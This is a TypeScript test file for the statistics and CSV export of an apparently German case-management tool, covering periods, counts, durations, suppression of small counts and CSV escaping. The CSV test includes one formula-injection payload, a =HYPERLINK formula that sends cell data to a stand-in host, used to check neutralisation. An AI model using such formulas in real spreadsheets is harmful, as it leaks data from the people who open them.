import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  type CaseFacts,
  csvCell,
  durationOf,
  durationsOf,
  factOf,
  figuresBy,
  figuresByMonth,
  figuresOf,
  monthsOf,
  type Period,
  parsePeriod,
  periodLabel,
  periodQuery,
  protectColumn,
  protectedCount,
  toCsv,
  topGroups,
} from './index.ts';

const TODAY = '2026-12-03';
const year2026: Period = { kind: 'year', from: '2026-01-01', to: '2026-12-31' };

const facts = (
  caseId: string,
  receivedOn: string,
  list: CaseFacts['facts'],
  extra: Partial<CaseFacts> = {},
): CaseFacts => ({
  caseId,
  receivedOn,
  persons: 1,
  nationality: 'SYR',
  authorityId: 'abh-koeln',
  facts: list,
  ...extra,
});

describe('periods', () => {
  test('without a query: the current calendar year', () => {
    assert.deepEqual(parsePeriod({}, TODAY), {
      ok: true,
      period: { kind: 'year', from: '2026-01-01', to: '2026-12-31' },
    });
  });

  test('quarters and months end on their last day, leap years included', () => {
    const q1 = parsePeriod({ zeitraum: 'quartal', jahr: '2024', quartal: '1' }, TODAY);
    assert.deepEqual(q1, { ok: true, period: { kind: 'quarter', from: '2024-01-01', to: '2024-03-31' } });
    const feb = parsePeriod({ zeitraum: 'monat', jahr: '2024', monat: '2' }, TODAY);
    assert.deepEqual(feb, { ok: true, period: { kind: 'month', from: '2024-02-01', to: '2024-02-29' } });
    const q4 = parsePeriod({ zeitraum: 'quartal', jahr: '2025', quartal: '4' }, TODAY);
    assert.equal(q4.ok && q4.period.to, '2025-12-31');
  });

  test('a free range of days, both ends included', () => {
    const range = parsePeriod({ zeitraum: 'frei', von: '2026-03-15', bis: '2026-04-02' }, TODAY);
    assert.deepEqual(range, { ok: true, period: { kind: 'range', from: '2026-03-15', to: '2026-04-02' } });
    assert.deepEqual(monthsOf(range.ok ? range.period : year2026), ['2026-03', '2026-04']);
  });

  test('wrong input gives German messages per field and the current year meanwhile', () => {
    const reversed = parsePeriod({ zeitraum: 'frei', von: '2026-05-01', bis: '2026-04-01' }, TODAY);
    assert.equal(reversed.ok, false);
    assert.deepEqual(!reversed.ok && reversed.problems.map((p) => p.field), ['bis']);
    assert.equal(reversed.period.from, '2026-01-01');
    const missing = parsePeriod({ zeitraum: 'frei', von: '', bis: '31.02.2026' }, TODAY);
    assert.deepEqual(!missing.ok && missing.problems.map((p) => p.field), ['von', 'bis']);
    const german = parsePeriod({ zeitraum: 'frei', von: '1.3.2026', bis: '15.04.2026' }, TODAY);
    assert.deepEqual(german, { ok: true, period: { kind: 'range', from: '2026-03-01', to: '2026-04-15' } });
    const tooLong = parsePeriod({ zeitraum: 'frei', von: '2015-01-01', bis: '2026-01-01' }, TODAY);
    assert.match(!tooLong.ok ? (tooLong.problems[0]?.message ?? '') : '', /fünf Jahre/);
    const badYear = parsePeriod({ zeitraum: 'jahr', jahr: '1999' }, TODAY);
    assert.match(!badYear.ok ? (badYear.problems[0]?.message ?? '') : '', /zwischen 2000 und 2027/);
    const badMonth = parsePeriod({ zeitraum: 'monat', jahr: '2026', monat: '13' }, TODAY);
    assert.deepEqual(!badMonth.ok && badMonth.problems.map((p) => p.field), ['monat']);
    const badQuarter = parsePeriod({ zeitraum: 'quartal', jahr: '2026', quartal: '5' }, TODAY);
    assert.deepEqual(!badQuarter.ok && badQuarter.problems.map((p) => p.field), ['quartal']);
  });

  test('labels and the query that selects a period again', () => {
    const q = { kind: 'quarter', from: '2026-04-01', to: '2026-06-30' } as const;
    assert.equal(periodLabel(q), '2. Quartal 2026');
    assert.deepEqual(periodQuery(q), { zeitraum: 'quartal', jahr: '2026', quartal: '2' });
    assert.equal(periodLabel({ kind: 'month', from: '2026-03-01', to: '2026-03-31' }), 'März 2026');
    assert.equal(
      periodLabel({ kind: 'range', from: '2026-03-05', to: '2026-04-15' }),
      '5.3.2026 bis 15.4.2026',
    );
    for (const p of [q, year2026, { kind: 'range', from: '2026-03-05', to: '2026-04-15' } as const]) {
      const again = parsePeriod(periodQuery(p), TODAY);
      assert.deepEqual(again, { ok: true, period: p });
    }
  });
});

describe('facts of history events', () => {
  test('events map to facts; unknown ones and incomplete feedback count nothing', () => {
    assert.deepEqual(factOf({ type: 'TakenUp', on: '2026-01-02' }), { kind: 'taken_up', on: '2026-01-02' });
    assert.deepEqual(factOf({ type: 'NoRequestDecided', on: '2026-01-02', recommendation: true }), {
      kind: 'no_request',
      on: '2026-01-02',
      recommendation: true,
    });
    assert.deepEqual(
      factOf({ type: 'AuthorityFeedbackReceived', on: '2026-01-02', stage: 'final', decision: 'refuse' }),
      { kind: 'authority_decision', on: '2026-01-02', stage: 'final', followed: false },
    );
    assert.equal(factOf({ type: 'AuthorityFeedbackReceived', on: '2026-01-02', decision: null }), null);
    assert.equal(factOf({ type: 'PreCheckStarted', on: '2026-01-02' }), null);
  });
});

describe('figures', () => {
  const cases: CaseFacts[] = [
    // Received 2025, taken up and decided 2026: counts in 2026 for the steps, not as received.
    facts('a', '2025-12-20', [
      { kind: 'taken_up', on: '2026-01-10' },
      { kind: 'hardship_request', on: '2026-03-04' },
      { kind: 'authority_decision', on: '2026-05-01', stage: 'intended', followed: true },
      { kind: 'authority_decision', on: '2026-06-01', stage: 'final', followed: true },
      { kind: 'closed', on: '2026-06-02' },
    ]),
    facts(
      'b',
      '2026-01-05',
      [
        { kind: 'taken_up', on: '2026-01-15' },
        { kind: 'no_request', on: '2026-03-04', recommendation: true },
        { kind: 'closed', on: '2026-03-10' },
      ],
      { persons: 4, nationality: 'AFG' },
    ),
    facts('c', '2026-02-01', [{ kind: 'not_taken_up', on: '2026-02-11' }], { authorityId: null }),
    facts('d', '2026-02-03', [
      { kind: 'not_taken_up', on: '2026-02-13' },
      { kind: 'reopened', on: '2026-04-01' },
      { kind: 'taken_up', on: '2026-04-08' },
      { kind: 'withdrawn', on: '2026-05-01' },
    ]),
    facts('e', '2026-12-31', [], { nationality: null }),
    facts('f', '2027-01-01', [{ kind: 'settled_otherwise', on: '2027-01-02' }]),
  ];

  test('the counts of a year: receipts by their day, every step by its day', () => {
    const f = figuresOf(cases, year2026);
    assert.equal(f.received, 4);
    assert.equal(f.persons, 7);
    assert.equal(f.takenUp, 3, 'a, b and d after its reopening');
    assert.equal(f.notTakenUp, 2);
    assert.equal(f.hardshipRequests, 1);
    assert.equal(f.noRequest, 1);
    assert.equal(f.recommendations, 1);
    assert.equal(f.authorityFollowed, 1);
    assert.equal(f.authorityNotFollowed, 0);
    assert.equal(f.authorityIntendedFollowed, 1);
    assert.equal(f.closed, 2);
    assert.equal(f.withdrawn, 1);
    assert.equal(f.settledOtherwise, 0);
  });

  test('per month: every month of the period, the sums equal the period', () => {
    const months = figuresByMonth(cases, year2026);
    assert.equal(months.length, 12);
    assert.deepEqual(
      months.map((m) => m.figures.received),
      [1, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1],
    );
    assert.equal(
      months.reduce((s, m) => s + m.figures.takenUp, 0),
      figuresOf(cases, year2026).takenUp,
    );
    const partial = figuresByMonth(cases, { kind: 'range', from: '2026-01-12', to: '2026-02-02' });
    assert.deepEqual(
      partial.map((m) => [m.month, m.figures.takenUp, m.figures.received]),
      [
        ['2026-01', 1, 0],
        ['2026-02', 0, 1],
      ],
    );
  });

  test('by nationality and authority: groups with something in the period, largest first', () => {
    const byNationality = figuresBy(cases, year2026, (c) => c.nationality);
    assert.deepEqual(
      byNationality.map((g) => [g.key, g.figures.received]),
      [
        ['SYR', 2],
        ['AFG', 1],
        [null, 1],
      ],
    );
    const byAuthority = figuresBy(cases, year2026, (c) => c.authorityId);
    assert.deepEqual(
      byAuthority.map((g) => [g.key, g.figures.received, g.figures.takenUp]),
      [
        ['abh-koeln', 3, 3],
        [null, 1, 0],
      ],
    );
    const { top, rest } = topGroups(byNationality, 2);
    assert.equal(top.length, 2);
    assert.equal(rest?.count, 1);
    assert.equal(rest?.figures.received, 1);
    assert.equal(topGroups(byNationality, 10).rest, null);
  });

  test('durations from receipt (or reopening) in calendar days, median and mean', () => {
    const d = durationsOf(cases, year2026);
    // take-up: a 21 (20.12.→10.1.), b 10, d 7 (from the reopening on 1.4.)
    assert.deepEqual(d.toTakeUp, { count: 3, median: 10, mean: 38 / 3 });
    // decision: a 74 (20.12.→4.3.), b 58
    assert.deepEqual(d.toDecision, { count: 2, median: 66, mean: 66 });
    // endings: a closed 164, b closed 64, c not taken up 10, d not taken up 10, d withdrawn 30 (from 1.4.)
    assert.deepEqual(d.toClosing, { count: 5, median: 30, mean: (164 + 64 + 10 + 10 + 30) / 5 });
    assert.deepEqual(durationOf([]), { count: 0, median: null, mean: null });
    assert.deepEqual(durationOf([5]), { count: 1, median: 5, mean: 5 });
  });
});

describe('disclosure control and CSV', () => {
  test('1 and 2 are shown as "<3"; 0 and 3 and more as they are, in German notation', () => {
    assert.deepEqual(
      [0, 1, 2, 3, 1234].map((n) => protectedCount(n)),
      ['0', '<3', '<3', '3', '1.234'],
    );
  });

  test('a column hides one more cell where its total would give a "<3" away', () => {
    // Nothing small: all shown.
    assert.deepEqual(protectColumn([5, 3, 0]), ['5', '3', '0']);
    // One small cell: total − the others would reveal it, so the smallest other one is hidden too.
    assert.deepEqual(protectColumn([10, 4, 2, 0]), ['10', 'x', '<3', '0']);
    // Two cells of 1 (sum 2 = 2 × 1) or two of 2 (sum 4) would be pinned down as well.
    assert.deepEqual(protectColumn([9, 5, 1, 1]), ['9', 'x', '<3', '<3']);
    assert.deepEqual(protectColumn([9, 5, 2, 2]), ['9', 'x', '<3', '<3']);
    // A 1 and a 2 (sum 3): which is which stays open; nothing more hidden.
    assert.deepEqual(protectColumn([9, 5, 1, 2]), ['9', '5', '<3', '<3']);
    // Nothing else to hide: the small cell stays "<3" (the total alone shows it; not preventable here).
    assert.deepEqual(protectColumn([2, 0]), ['<3', '0']);
  });

  test('formula cells get an apostrophe; quotes, semicolons and line breaks are quoted', () => {
    assert.equal(
      csvCell('=HYPERLINK("http://x.example/?a="&A1;"klick")'),
      `"'=HYPERLINK(""http://x.example/?a=""&A1;""klick"")"`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      assert.ok(csvCell(`${start}1`).replace(/^"/, '').startsWith("'"));
    assert.equal(csvCell('Köln'), 'Köln');
    assert.equal(csvCell('a;b'), '"a;b"');
    assert.equal(csvCell('zwei\nZeilen'), '"zwei\nZeilen"');
    assert.equal(csvCell(12), '12');
    const file = toCsv(['Monat', 'Eingänge'], [['März 2026', 3]]);
    assert.equal(file, '\uFEFFMonat;Eingänge\r\nMärz 2026;3\r\n');
  });
});
